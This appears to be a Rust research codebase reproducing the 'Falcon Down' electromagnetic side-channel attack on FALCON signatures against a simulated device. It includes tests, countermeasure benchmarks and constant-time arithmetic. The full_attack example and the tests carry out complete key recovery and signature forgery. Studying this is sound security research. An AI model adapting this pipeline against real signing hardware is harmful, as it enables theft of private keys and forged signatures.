    let mut rng = Prng::from_seed(b"ct closed loop key");
    let kp = KeyPair::generate(params, &mut rng);
    let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, noise),
        lowpass: 0.0,
        scope: Scope::default(),
        ..Default::default()
    };
    let kp_clone = kp.clone();
    let mut device = Device::new(kp.into_parts().0, chain, b"ct closed loop");
    let targets: Vec<usize> = (0..n).collect();
    let mut msgs = Prng::from_seed(b"ct closed loop msgs");
    let ds = Dataset::collect(&mut device, &targets, traces, &mut msgs);
    (ds, truth, kp_clone)
}

/// Claim 2: a CPA at the predicted site recovers the key.
#[test]
fn cpa_at_the_top_ranked_site_recovers_the_key() {
    let map = static_site_map();
    let top = map.top().expect("sites exist");
    // The attack below correlates against exactly the micro-op family
    // the static map put on top: the partial-product multiplies.
    assert_eq!(top.kind, SiteKind::MantissaMul);

    let (ds, truth, kp) = collect_falcon8(1.0, 300);
    let results = recover_all_verified(&ds, &AttackConfig::default());
    let correct = results.iter().zip(&truth).filter(|((r, _), &w)| r.bits == w).count();
    assert_eq!(correct, truth.len(), "all FFT(f) coefficients must be recovered");

    let bits: Vec<u64> = results.iter().map(|(r, _)| r.bits).collect();
    let vk = kp.verifying_key().clone();
    let rec = key_from_fft_bits(&bits, &vk).expect("key recovery from site-predicted CPA");
    assert_eq!(rec.sk.f(), kp.signing_key().f(), "recovered f must equal the victim's");
    let mut rng = Prng::from_seed(b"ct closed loop forge");
    let forged = rec.sk.sign(b"forged via the predicted site", &mut rng);
    assert!(vk.verify(b"forged via the predicted site", &forged));
}

fn pearson(xs: &[f64], ys: &[f32]) -> f64 {
    let n = xs.len() as f64;
    let mx = xs.iter().sum::<f64>() / n;
    let my = ys.iter().map(|&y| y as f64).sum::<f64>() / n;
    let (mut num, mut dx, mut dy) = (0.0, 0.0, 0.0);
    for (&x, &y) in xs.iter().zip(ys) {
        let (a, b) = (x - mx, y as f64 - my);
        num += a * b;
        dx += a * a;
        dy += b * b;
    }
    if dx == 0.0 || dy == 0.0 {
        0.0
    } else {
        num / (dx * dy).sqrt()
    }
}

/// How many targets a single-step CPA distinguishes: for each target,
/// correlate the exact hypothesis of the true secret and of 15 decoys
/// against the measured column at `step`; the target counts as won only
/// if the truth *strictly* out-correlates every decoy.
fn targets_won_at(ds: &Dataset, truth: &[u64], step: StepKind) -> usize {
    let mut won = 0;
    for (t, &secret) in truth.iter().enumerate() {
        let knowns: Vec<KnownOperand> =
            ds.known_column(t, 0).iter().map(|&k| KnownOperand::new(k)).collect();
        let samples = ds.sample_column(t, 0, step);
        let corr_of = |guess: u64| {
            let hyp: Vec<f64> = knowns.iter().map(|k| hyp_exact(guess, k, step)).collect();
            pearson(&hyp, samples).abs()
        };
        let truth_corr = corr_of(secret);
        // Decoys: the true bits with high-mantissa perturbations (bits
        // 30..34 sit in the `A`/`C` half every partial product except
        // LoLo consumes) — the hypotheses a pruning attack must reject.
        let beaten = (1..=15u64).all(|d| corr_of(secret ^ (d << 30)) < truth_corr);
        if beaten {
            won += 1;
        }
    }
    won
}

/// Claim 3: the same budget at a bottom-ranked site does not
/// distinguish the secret.
#[test]
fn matched_budget_at_an_unpredicted_site_fails() {
    let map = static_site_map();
    let top = map.top().expect("sites exist");
    let top_step = top.step.expect("mantissa site carries a step");

    let (ds, truth, _) = collect_falcon8(1.0, 300);

    // At the predicted site the truth strictly beats every decoy for
    // every coefficient…
    let won_predicted = targets_won_at(&ds, &truth, top_step);
    assert_eq!(
        won_predicted,
        truth.len(),
        "CPA at the top-ranked step {top_step:?} should distinguish every coefficient"
    );

    // …while the 1-bit SignXor word — which the site model scores at
    // the very bottom of the amplitude classes — cannot separate
    // mantissa guesses at all: most decoys produce the *identical*
    // hypothesis vector, so the strict win rate collapses.
    let won_unpredicted = targets_won_at(&ds, &truth, StepKind::SignXor);
    assert!(
        won_unpredicted <= truth.len() / 4,
        "a 1-bit site should not distinguish mantissa guesses, yet won \
         {won_unpredicted}/{} targets",
        truth.len()
    );

    // The ranking itself encodes this: every mantissa-multiply site
    // scores above any branch/timing site.
    let worst_mantissa = map
        .sites
        .iter()
        .filter(|s| s.kind == SiteKind::MantissaMul)
        .map(|s| s.score)
        .min()
        .unwrap();
    let best_branch =
        map.sites.iter().filter(|s| s.kind == SiteKind::Branch).map(|s| s.score).max().unwrap();
    assert!(worst_mantissa > best_branch);
}
