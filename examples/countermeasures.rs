//! Countermeasure evaluation (paper §V.B): how hiding defences degrade
//! the attack.
//!
//! Compares the undefended device against per-execution coefficient
//! shuffling and against added hiding noise, reporting recovery success
//! and the trace count needed for a 99.99 %-confident sign-bit leak.
//!
//! Run with:
//! ```text
//! cargo run --release --example countermeasures [logn] [n_traces]
//! ```

use falcon_down::dema::attack::AttackConfig;
use falcon_down::dema::countermeasure::evaluate_device;
use falcon_down::emsim::{CountermeasureConfig, Device, LeakageModel, MeasurementChain, Scope};
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN};

fn device(params: LogN, cm: CountermeasureConfig, noise: f64) -> Device {
    let mut rng = Prng::from_seed(b"countermeasure victim");
    let kp = KeyPair::generate(params, &mut rng);
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, noise),
        lowpass: 0.0,
        scope: Scope::default(),
        ..Default::default()
    };
    Device::new(kp.into_parts().0, chain, b"cm bench").with_countermeasures(cm)
}

fn main() {
    let mut args = std::env::args().skip(1);
    let logn = args.next().and_then(|s| s.parse().ok()).unwrap_or(5u32);
    let n_traces = args.next().and_then(|s| s.parse().ok()).unwrap_or(1500usize);
    let params = LogN::new(logn).expect("logn in 1..=10");
    let cfg = AttackConfig::default();
    let target = 1usize;
    let base_noise = 2.0;

    println!(
        "FALCON-{}, target coefficient {target}, {n_traces} traces per configuration\n",
        params.n()
    );
    println!(
        "{:<28} {:>10} {:>12} {:>18}",
        "configuration", "recovered", "sign corr", "sign disclosure"
    );

    let configs: [(&str, CountermeasureConfig, f64); 5] = [
        ("unprotected", CountermeasureConfig::default(), base_noise),
        (
            "shuffling",
            CountermeasureConfig { shuffle: true, extra_noise_sigma: 0.0, masking: false },
            base_noise,
        ),
        (
            "hiding noise (+3σ)",
            CountermeasureConfig {
                shuffle: false,
                extra_noise_sigma: 3.0 * base_noise,
                masking: false,
            },
            base_noise,
        ),
        (
            "shuffling + noise",
            CountermeasureConfig {
                shuffle: true,
                extra_noise_sigma: 3.0 * base_noise,
                masking: false,
            },
            base_noise,
        ),
        (
            "additive masking",
            CountermeasureConfig { shuffle: false, extra_noise_sigma: 0.0, masking: true },
            base_noise,
        ),
    ];

    for (name, cm, noise) in configs {
        let mut dev = device(params, cm, noise);
        let mut msgs = Prng::from_seed(b"cm messages");
        let out = evaluate_device(&mut dev, target, n_traces, &mut msgs, &cfg);
        println!(
            "{:<28} {:>10} {:>12.4} {:>18}",
            name,
            out.recovered,
            out.sign_corr,
            out.sign_disclosure.map(|d| d.to_string()).unwrap_or_else(|| format!("> {n_traces}")),
        );
    }

    println!(
        "\nAs §V.B anticipates, hiding raises the trace budget, shuffling breaks\n\
         the alignment assumption, and the prototype additive masking removes\n\
         the unshared secret from every observable intermediate."
    );
}
