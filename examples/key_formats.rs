//! Key and signature wire formats: generate, serialise, reload, use.
//!
//! Demonstrates the specification-format encodings: the 897-byte public
//! key and 1281-byte private key of FALCON-512, and the 666-byte padded
//! signature — and that a key reloaded from bytes (with `G` reconstructed
//! from the NTRU equation) signs interchangeably with the original.
//!
//! Run with:
//! ```text
//! cargo run --release --example key_formats [logn]
//! ```

use falcon_down::sig::keys::{public_key_len, secret_key_len};
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN, Signature, SigningKey, VerifyingKey};

fn main() {
    let logn = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(9u32);
    let params = LogN::new(logn).expect("logn in 1..=10");
    println!("FALCON-{}", params.n());

    let mut rng = Prng::from_seed(b"key formats example");
    let kp = KeyPair::generate(params, &mut rng);

    let pk_bytes = kp.verifying_key().to_bytes();
    println!(
        "public key : {} bytes (header {:#04x} + {}x14-bit h)",
        pk_bytes.len(),
        pk_bytes[0],
        params.n()
    );
    assert_eq!(pk_bytes.len(), public_key_len(logn));

    let sk_bytes = kp.signing_key().to_bytes().expect("generated keys fit the field widths");
    println!(
        "private key: {} bytes (header {:#04x}; f, g, F stored; G stored or reconstructed per degree)",
        sk_bytes.len(),
        sk_bytes[0]
    );
    assert_eq!(sk_bytes.len(), secret_key_len(logn));

    // Round-trip both and use the reloaded halves together.
    let vk = VerifyingKey::from_bytes(&pk_bytes).expect("public key parses");
    let sk = SigningKey::from_bytes(&sk_bytes).expect("private key parses");
    assert_eq!(sk.cap_g(), kp.signing_key().cap_g(), "G reconstructed exactly");

    let msg = b"signed with a key that travelled through bytes";
    let sig = sk.sign(msg, &mut rng);
    let sig_bytes = sig.to_bytes();
    println!("signature  : {} bytes (header + 40-byte salt + compressed s2)", sig_bytes.len());
    assert_eq!(sig_bytes.len(), params.sig_bytes());

    let parsed = Signature::from_bytes(&sig_bytes).expect("signature parses");
    let ok = vk.verify(msg, &parsed);
    println!("reloaded key's signature verifies under reloaded public key: {ok}");
    assert!(ok);

    // Corruption is caught at every layer.
    let mut bad_pk = pk_bytes.clone();
    bad_pk[10] ^= 0xFF;
    // (h is any residue vector, so a bit flip may still parse — but a
    // truncated or mislabelled key never does.)
    assert!(VerifyingKey::from_bytes(&pk_bytes[..pk_bytes.len() - 1]).is_none());
    let mut bad_sig = sig_bytes.clone();
    bad_sig[0] = 0x40;
    assert!(Signature::from_bytes(&bad_sig).is_none());
    println!("malformed encodings rejected.");
}
