//! Anatomy of a captured EM trace (the paper's Figure 3).
//!
//! Captures one trace of a FALCON-512 signing operation, prints the
//! annotated micro-op regions of one coefficient's multiplication —
//! mantissa pipeline, exponent addition, sign computation — and renders a
//! small ASCII plot of the emission amplitudes.
//!
//! Run with:
//! ```text
//! cargo run --release --example trace_anatomy [logn]
//! ```

use falcon_down::emsim::{Device, LeakageModel, MeasurementChain, Scope, StepKind};
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN};

fn main() {
    let logn = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(6u32);
    let params = LogN::new(logn).expect("logn in 1..=10");
    println!("capturing one trace of FALCON-{} signing...", params.n());

    let mut rng = Prng::from_seed(b"trace anatomy key");
    let kp = KeyPair::generate(params, &mut rng);
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, 1.5),
        lowpass: 0.0,
        scope: Scope::default(),
        ..Default::default()
    };
    let mut device = Device::new(kp.into_parts().0, chain, b"anatomy bench");
    let cap = device.capture(b"figure three");
    let layout = device.layout();
    println!(
        "trace: {} samples covering {} complex coefficients x 4 multiplications x {} micro-ops\n",
        cap.trace.len(),
        params.n() / 2,
        StepKind::COUNT
    );

    // Zoom on coefficient 0, multiplication 0 (re(f)·re(c)) — the window
    // Figure 3 annotates.
    println!("coefficient 0, multiplication re(f)x re(c):");
    println!("{:>4} {:>14} {:>8}  plot (EM amplitude)", "t", "micro-op", "sample");
    let names = [
        "load",
        "split",
        "mul D*B",
        "mul D*A",
        "add z1",
        "mul C*B",
        "add z1'",
        "mul C*A",
        "add zu",
        "sticky",
        "normalize",
        "EXPONENT",
        "SIGN",
        "pack",
    ];
    let region_of = |s: StepKind| -> &'static str {
        match s {
            StepKind::ExponentAdd => "exponent",
            StepKind::SignXor => "sign",
            _ => "mantissa",
        }
    };
    for step in StepKind::ALL {
        let idx = layout.sample_index(0, step);
        let v = cap.trace.samples[idx];
        let bar = "#".repeat((v.max(0.0) / 2.0) as usize);
        println!(
            "{:>4} {:>14} {:>8.1}  |{bar:<32}| {}",
            step as usize,
            names[step as usize],
            v,
            region_of(step)
        );
    }

    println!("\nregion annotation (as in the paper's Figure 3):");
    println!("  samples 0..10  -> mantissa multiplication and additions");
    println!("  sample  11     -> exponent addition");
    println!("  sample  12     -> sign XOR");
    println!("  sample  13     -> result write-back");

    // CSV dump of the first coefficient's full window for plotting.
    println!("\ncsv (coefficient 0, all four multiplications):");
    println!("t,sample,mul,step");
    for (t, idx) in layout.coefficient_range(0).enumerate() {
        println!("{t},{},{},{}", cap.trace.samples[idx], t / StepKind::COUNT, t % StepKind::COUNT);
    }
}
