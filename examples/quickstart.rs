//! Quickstart: generate a FALCON key pair, sign, verify — and peek at the
//! floating-point FFT structure the *Falcon Down* attack exploits.
//!
//! Run with:
//! ```text
//! cargo run --release --example quickstart [logn]
//! ```
//! `logn` defaults to 9 (FALCON-512); pass a smaller value (e.g. 6) for a
//! near-instant demonstration.

use falcon_down::fpr::Fpr;
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN};
use std::time::Instant;

fn main() {
    let logn = std::env::args().nth(1).and_then(|s| s.parse::<u32>().ok()).unwrap_or(9);
    let params = LogN::new(logn).expect("logn must be in 1..=10");
    println!("FALCON-{} (n = {})", params.n(), params.n());
    println!("  σ        = {:.6}", params.sigma());
    println!("  σ_min    = {:.10}", params.sigma_min());
    println!("  ⌊β²⌋     = {}", params.l2_bound());
    println!("  sig size = {} bytes", params.sig_bytes());

    let mut rng = Prng::from_seed(b"quickstart example seed");
    let t = Instant::now();
    let kp = KeyPair::generate(params, &mut rng);
    println!("\nKey generation: {:?}", t.elapsed());
    println!("  f[0..8]  = {:?}", &kp.signing_key().f()[..8.min(params.n())]);
    println!("  g[0..8]  = {:?}", &kp.signing_key().g()[..8.min(params.n())]);

    // The secret transform the side channel leaks: FFT(f). Coefficients
    // are 64-bit emulated doubles whose sign/exponent/mantissa fields the
    // attack recovers separately.
    let c0: Fpr = kp.signing_key().f_fft()[0];
    println!("\nFFT(f)[0] = {:#018x}", c0.to_bits());
    println!("  sign     = {}", c0.sign_bit());
    println!("  exponent = {:#05x}", c0.exponent_bits());
    println!("  mantissa = {:#015x}", c0.mantissa_bits());
    let m = c0.mantissa_bits() | (1 << 52);
    println!("  high 28  = {:#09x}   (the paper's C·2^25 half)", m >> 25);
    println!("  low  25  = {:#09x}   (the paper's D half)", m & 0x1FF_FFFF);

    let msg = b"the quick brown fox signs a lattice";
    let t = Instant::now();
    let sig = kp.signing_key().sign(msg, &mut rng);
    println!("\nSigning: {:?}", t.elapsed());
    println!("  salt     = {:02x?}...", &sig.salt()[..8]);
    println!("  s2[0..8] = {:?}", &sig.s2()[..8.min(params.n())]);
    println!("  encoded  = {} bytes", sig.to_bytes().len());

    let t = Instant::now();
    let ok = kp.verifying_key().verify(msg, &sig);
    println!("\nVerification: {:?} -> {}", t.elapsed(), ok);
    assert!(ok);
    assert!(!kp.verifying_key().verify(b"another message", &sig));
    println!("Tampered message correctly rejected.");
}
