//! End-to-end *Falcon Down* attack: from EM traces to a forged signature.
//!
//! 1. A victim device signs messages; the bench captures the EM traces of
//!    the `FFT(c) ⊙ FFT(f)` region.
//! 2. The adversary recovers every 64-bit coefficient of `FFT(f)` by
//!    divide-and-conquer with extend-and-prune.
//! 3. Inverse FFT gives `f`; the public key gives `g = h·f mod q`; the
//!    NTRU equation gives `(F, G)`; the rebuilt key signs an arbitrary
//!    message that verifies under the victim's public key.
//!
//! Run with:
//! ```text
//! cargo run --release --example full_attack [logn] [n_traces] [noise_sigma]
//! ```
//! Defaults: `logn = 6`, `n_traces = 700`, `noise_sigma = 2.0` — about a
//! minute of work. The paper's measurement regime corresponds to
//! `noise_sigma ≈ 8.6` with ~10k traces (slower; same code path).

use falcon_down::dema::attack::{recover_all_verified, AttackConfig};
use falcon_down::dema::recover::key_from_fft_bits;
use falcon_down::dema::Dataset;
use falcon_down::emsim::{Device, LeakageModel, MeasurementChain, Scope};
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN};
use std::time::Instant;

fn main() {
    let mut args = std::env::args().skip(1);
    let logn = args.next().and_then(|s| s.parse().ok()).unwrap_or(6u32);
    let n_traces = args.next().and_then(|s| s.parse().ok()).unwrap_or(700usize);
    let noise = args.next().and_then(|s| s.parse().ok()).unwrap_or(2.0f64);
    let params = LogN::new(logn).expect("logn in 1..=10");
    let n = params.n();

    println!("== Victim setup: FALCON-{n}, noise σ = {noise} ==");
    let mut rng = Prng::from_seed(b"full attack victim key");
    let t = Instant::now();
    let kp = KeyPair::generate(params, &mut rng);
    let vk = kp.verifying_key().clone();
    println!("victim keygen: {:?}", t.elapsed());

    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, noise),
        lowpass: 0.0,
        scope: Scope::default(),
        ..Default::default()
    };
    let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
    let mut device = Device::new(kp.into_parts().0, chain, b"full attack bench");

    println!("\n== Acquisition: {n_traces} traces of the FFT(c)⊙FFT(f) region ==");
    let targets: Vec<usize> = (0..n).collect();
    let mut msg_rng = Prng::from_seed(b"full attack messages");
    let t = Instant::now();
    let ds = Dataset::collect(&mut device, &targets, n_traces, &mut msg_rng);
    println!("acquisition: {:?}", t.elapsed());

    println!("\n== Recovery: divide-and-conquer with extend-and-prune ==");
    let cfg = AttackConfig::default();
    let t = Instant::now();
    let results: Vec<_> = recover_all_verified(&ds, &cfg);
    let elapsed = t.elapsed();
    let correct = results.iter().zip(&truth).filter(|((r, _), &want)| r.bits == want).count();
    println!("recovery: {elapsed:?}");
    println!("coefficients recovered exactly: {correct}/{n}");
    for (i, (r, conf)) in results.iter().take(4).enumerate() {
        println!(
            "  FFT(f)[{i}] = {:#018x}  (truth {:#018x})  confidence {:.3}, mant-lo corr {:.3}",
            r.bits, truth[i], conf, r.mant_lo.corr
        );
    }
    let results: Vec<_> = results.into_iter().map(|(r, _)| r).collect();
    if correct != n {
        println!("!! not all coefficients recovered — increase n_traces or lower noise");
        std::process::exit(1);
    }

    println!("\n== Key recovery: invert FFT, derive g, solve NTRU ==");
    let bits: Vec<u64> = results.iter().map(|r| r.bits).collect();
    let t = Instant::now();
    let recovered = key_from_fft_bits(&bits, &vk).expect("full key recovery");
    println!("key recovery (incl. NTRU solve): {:?}", t.elapsed());
    println!("  recovered f[0..8] = {:?}", &recovered.sk.f()[..8.min(n)]);

    println!("\n== Forgery: sign an arbitrary message with the stolen key ==");
    let msg = b"transfer all funds to the adversary";
    let forged = recovered.sk.sign(msg, &mut msg_rng);
    let ok = vk.verify(msg, &forged);
    println!("victim verifies forged signature: {ok}");
    assert!(ok, "forgery must verify");
    println!("\nFALCON is down: the signing key is fully compromised.");
}
