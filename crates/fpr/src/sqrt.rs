//! Emulated square root.

use crate::repr::Fpr;

impl Fpr {
    /// Emulated square root with round-to-nearest-even.
    ///
    /// The operand must be non-negative (FALCON only takes square roots of
    /// Gram-matrix diagonal values, which are positive); in debug builds a
    /// negative operand panics.
    pub fn sqrt(self) -> Fpr {
        debug_assert_eq!(self.sign_bit(), 0, "fpr sqrt of negative value");
        crate::ctcheck::site(crate::ctcheck::sites::SQRT);
        // ct: secret(self)
        let (_, exf, m) = self.unpack();
        let e = exf - 1075; // value = m * 2^e, 2^52 <= m < 2^53
                            // Make the exponent even with a 0/1 shift (no branch).
        let odd = (e & 1) as u32;
        let m = m << odd;
        let e = e - odd as i32;

        // sqrt(m * 2^e) = isqrt(m << 56) * 2^(e/2 - 28). With
        // 2^52 <= m < 2^54 the widened radicand lies in [2^108, 2^110),
        // so a restoring square root starting at the fixed bit 2^108
        // covers the whole domain in exactly 55 iterations, each one a
        // compare and two masked updates — no data-dependent control
        // flow, unlike a leading-zeros-seeded loop. The root lands in
        // [2^54, 2^55), the packer's window, with inexactness recorded
        // as a sticky bit.
        let wide = (m as u128) << 56;
        let mut x = wide;
        let mut r: u128 = 0;
        let mut bit: u128 = 1 << 108;
        while bit != 0 {
            crate::ctcheck::site(crate::ctcheck::sites::SQRT_LOOP);
            let t = r + bit;
            let take = ((x >= t) as u128).wrapping_neg();
            x -= t & take;
            r = (r >> 1) + (bit & take);
            bit >>= 2;
        }
        let root = r as u64;
        let sticky = u64::from(x != 0);

        // A zero operand (exponent field 0) flushes at pack time; the
        // root loop above still runs on its (masked-out) mantissa. The
        // halved exponent uses an arithmetic shift: e is even here.
        let live = ((exf != 0) as u64).wrapping_neg();
        Fpr::build(0, (e >> 1) - 28, (root | sticky) & live)
        // ct: end
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sqrt_exact_squares() {
        for v in [0i64, 1, 4, 9, 16, 25, 1 << 20, 12289 * 12289] {
            let r = Fpr::from_i64(v).sqrt();
            assert_eq!(r.to_f64(), (v as f64).sqrt(), "v={v}");
        }
    }

    #[test]
    fn sqrt_rounds_like_host() {
        for v in [2.0f64, 3.0, 0.5, 1e-12, 7.25e9, 1.0000000000000002] {
            assert_eq!(Fpr::from(v).sqrt().to_f64().to_bits(), v.sqrt().to_bits(), "v={v}");
        }
    }
}
