//! Emulated square root.

use crate::repr::Fpr;

/// Integer square root of a `u128`, rounded down.
fn isqrt_u128(n: u128) -> u128 {
    if n == 0 {
        return 0;
    }
    // Bit-by-bit restoring square root: exact and branch-simple.
    let mut r: u128 = 0;
    let mut bit: u128 = 1 << ((127 - n.leading_zeros() as i32) & !1);
    let mut x = n;
    while bit != 0 {
        if x >= r + bit {
            x -= r + bit;
            r = (r >> 1) + bit;
        } else {
            r >>= 1;
        }
        bit >>= 2;
    }
    r
}

impl Fpr {
    /// Emulated square root with round-to-nearest-even.
    ///
    /// The operand must be non-negative (FALCON only takes square roots of
    /// Gram-matrix diagonal values, which are positive); in debug builds a
    /// negative operand panics.
    pub fn sqrt(self) -> Fpr {
        debug_assert_eq!(self.sign_bit(), 0, "fpr sqrt of negative value");
        if self.is_zero() {
            return Fpr::ZERO;
        }
        let (_, exf, m) = self.unpack();
        let mut e = exf - 1075; // value = m * 2^e, 2^52 <= m < 2^53
        let mut m = m;
        if e & 1 != 0 {
            m <<= 1;
            e -= 1;
        }
        // sqrt(m * 2^e) = isqrt(m << 56) * 2^(e/2 - 28); the shift makes
        // the root land in [2^54, 2^55), the 55-bit window expected by
        // the packer, with inexactness recorded as a sticky bit.
        let wide = (m as u128) << 56;
        let r = isqrt_u128(wide);
        let sticky = u64::from(r * r != wide);
        Fpr::build(0, e / 2 - 28, (r as u64) | sticky)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn isqrt_exact_squares() {
        for v in [0u128, 1, 2, 3, 4, 5, 15, 16, 17, 1 << 60, (1 << 60) + 1] {
            let r = isqrt_u128(v);
            assert!(r * r <= v, "v={v}");
            assert!((r + 1) * (r + 1) > v, "v={v}");
        }
    }
}
