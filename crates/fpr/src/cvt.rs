//! Conversions between `Fpr`, integers and host `f64`.
//!
//! Every conversion on the signing path handles secret-derived values
//! (lattice coordinates, sampler centers), so the routines here are
//! branch-free: special cases (zero inputs, out-of-window shifts) are
//! folded in with mask selects, and shift counts are clamped instead of
//! guarded.

use crate::ctcheck::{site, sites};
use crate::repr::Fpr;

/// All-ones when `c` is true — the mask idiom used for branch-free
/// selects throughout the emulation.
#[inline]
fn mask64(c: bool) -> u64 {
    (c as u64).wrapping_neg()
}

/// `max(v, 0)` without a branch (arithmetic-shift mask).
#[inline]
fn clamp_neg(v: i32) -> u32 {
    (v & !(v >> 31)) as u32
}

impl Fpr {
    /// Converts a signed 64-bit integer exactly (rounding to nearest-even
    /// when the magnitude exceeds 53 bits).
    ///
    /// ```
    /// use falcon_fpr::Fpr;
    /// assert_eq!(Fpr::from_i64(-12289).to_f64(), -12289.0);
    /// ```
    #[inline]
    pub fn from_i64(i: i64) -> Fpr {
        Fpr::scaled(i, 0)
    }

    /// Builds `i * 2^sc`, rounding to nearest-even if needed.
    ///
    /// This is the reference implementation's `fpr_scaled`, used when
    /// loading fixed-point lattice values.
    pub fn scaled(i: i64, sc: i32) -> Fpr {
        site(sites::SCALED);
        // ct: secret(i, sc)
        let s = u32::from(i < 0);
        let a = i.unsigned_abs();
        // `a | 1` keeps the normalisation shift in range for a zero
        // input, whose mantissa is then masked away so the packer emits
        // +0 — the same select-over-lanes shape as addition's
        // renormalisation.
        let nz = mask64(a != 0);
        let top = 63 - (a | 1).leading_zeros() as i32;
        let d = top - 54;
        let kr = clamp_neg(d);
        let kl = clamp_neg(-d);
        let rmask = (1u64 << kr) - 1;
        let sticky = u64::from(a & rmask != 0);
        let m = (((a >> kr) | sticky) << kl) & nz;
        Fpr::build(s, sc + d, m)
        // ct: end
    }

    /// Rounds to the nearest integer, ties to even.
    ///
    /// The value must fit in `i64`; FALCON only rounds small lattice
    /// coordinates.
    pub fn rint(self) -> i64 {
        site(sites::RINT);
        // ct: secret(self)
        let (s, exf, m) = self.unpack();
        // Mask (rather than branch) away the implicit bit of a zero.
        let m = m & mask64(exf != 0);
        let e = exf - 1075; // value = m * 2^e
        debug_assert!(exf == 0 || e <= 10, "fpr_rint overflow");
        // Integer lane (e >= 0): exact left shift.
        let left = m << (clamp_neg(e) & 63);
        // Fractional lane (e < 0): shift out k bits with round-to-
        // nearest-even; k >= 54 naturally rounds to 0 or 1. The clamp
        // keeps `k - 1` legal on the unselected lane.
        let k = (-e).clamp(1, 63) as u32;
        let low = m & ((1u64 << k) - 1);
        let half = 1u64 << (k - 1);
        let q = m >> k;
        let round = ((low > half) | ((low == half) & (q & 1 == 1))) as u64;
        let right = q + round;
        // Select the lane by the exponent sign, then apply the sign.
        let frac = mask64(e < 0);
        let mag = (left & !frac) | (right & frac);
        let sgn = -(s as i64);
        ((mag as i64) ^ sgn) - sgn
        // ct: end
    }

    /// Rounds toward negative infinity.
    pub fn floor(self) -> i64 {
        site(sites::FLOOR);
        // ct: secret(self)
        let (s, exf, m) = self.unpack();
        let m = m & mask64(exf != 0);
        let e = exf - 1075;
        debug_assert!(exf == 0 || e <= 10, "fpr_floor overflow");
        let left = m << (clamp_neg(e) & 63);
        let k = (-e).clamp(1, 63) as u32;
        let q = m >> k;
        let rem = u64::from(m & ((1u64 << k) - 1) != 0);
        let frac = mask64(e < 0);
        let mag = (left & !frac) | (q & frac);
        // Negative values with a discarded remainder round one further
        // down; positives (and exact values) truncate.
        let sgn = -(s as i64);
        (((mag as i64) ^ sgn) - sgn) - ((rem & frac & s as u64) as i64)
        // ct: end
    }

    /// Rounds toward zero.
    pub fn trunc(self) -> i64 {
        site(sites::TRUNC);
        // ct: secret(self)
        let (s, exf, m) = self.unpack();
        let m = m & mask64(exf != 0);
        let e = exf - 1075;
        debug_assert!(exf == 0 || e <= 10, "fpr_trunc overflow");
        let left = m << (clamp_neg(e) & 63);
        let k = (-e).clamp(1, 63) as u32;
        let frac = mask64(e < 0);
        let mag = (left & !frac) | ((m >> k) & frac);
        let sgn = -(s as i64);
        ((mag as i64) ^ sgn) - sgn
        // ct: end
    }

    /// Truncating conversion to unsigned 2^63 fixed point: `⌊self · 2^63⌋`
    /// for `self` in `[0, 1]` (the endpoint maps to 2^63 exactly).
    ///
    /// Used by the exponential approximation in the Gaussian sampler.
    pub(crate) fn to_fixed63(self) -> u64 {
        site(sites::TO_FIXED63);
        // ct: secret(self)
        debug_assert!(self.is_zero() || self.sign_bit() == 0);
        let (_, exf, m) = self.unpack();
        let m = m & mask64(exf != 0);
        let e = exf - 1075 + 63; // self * 2^63 = m * 2^e
        debug_assert!(exf == 0 || e <= 11, "to_fixed63 operand above 1");
        let left = m << (clamp_neg(e) & 63);
        let k = (-e).clamp(0, 63) as u32;
        let frac = mask64(e < 0);
        (left & !frac) | ((m >> k) & frac)
        // ct: end
    }

    /// Reinterprets a host `f64`.
    ///
    /// # Panics
    ///
    /// Panics in debug builds if given an infinity or NaN (values outside
    /// the emulated domain). Subnormals flush to (signed) zero.
    pub fn from_f64(v: f64) -> Fpr {
        debug_assert!(v.is_finite(), "fpr cannot represent {v}");
        // ct: secret(v)
        let bits = v.to_bits();
        // Flush subnormals (zero exponent field), keeping the sign.
        let live = mask64((bits >> 52) & 0x7FF != 0);
        Fpr(bits & (live | (1u64 << 63)))
        // ct: end
    }

    /// Converts to a host `f64` (always exact: the bit layouts coincide).
    #[inline]
    pub fn to_f64(self) -> f64 {
        f64::from_bits(self.0)
    }
}

impl From<f64> for Fpr {
    #[inline]
    fn from(v: f64) -> Fpr {
        Fpr::from_f64(v)
    }
}

impl From<Fpr> for f64 {
    #[inline]
    fn from(v: Fpr) -> f64 {
        v.to_f64()
    }
}

impl From<i64> for Fpr {
    #[inline]
    fn from(v: i64) -> Fpr {
        Fpr::from_i64(v)
    }
}

impl From<i32> for Fpr {
    #[inline]
    fn from(v: i32) -> Fpr {
        Fpr::from_i64(v as i64)
    }
}
