//! Conversions between `Fpr`, integers and host `f64`.

use crate::repr::Fpr;

impl Fpr {
    /// Converts a signed 64-bit integer exactly (rounding to nearest-even
    /// when the magnitude exceeds 53 bits).
    ///
    /// ```
    /// use falcon_fpr::Fpr;
    /// assert_eq!(Fpr::from_i64(-12289).to_f64(), -12289.0);
    /// ```
    #[inline]
    pub fn from_i64(i: i64) -> Fpr {
        Fpr::scaled(i, 0)
    }

    /// Builds `i * 2^sc`, rounding to nearest-even if needed.
    ///
    /// This is the reference implementation's `fpr_scaled`, used when
    /// loading fixed-point lattice values.
    pub fn scaled(i: i64, sc: i32) -> Fpr {
        if i == 0 {
            return Fpr::ZERO;
        }
        let s = u32::from(i < 0);
        let a = i.unsigned_abs();
        let top = 63 - a.leading_zeros() as i32;
        // Normalise the magnitude to a 55-bit mantissa (top bit at 54).
        let (m, e) = if top <= 54 {
            (a << (54 - top) as u32, sc + top - 54)
        } else {
            let k = (top - 54) as u32;
            let mask = (1u64 << k) - 1;
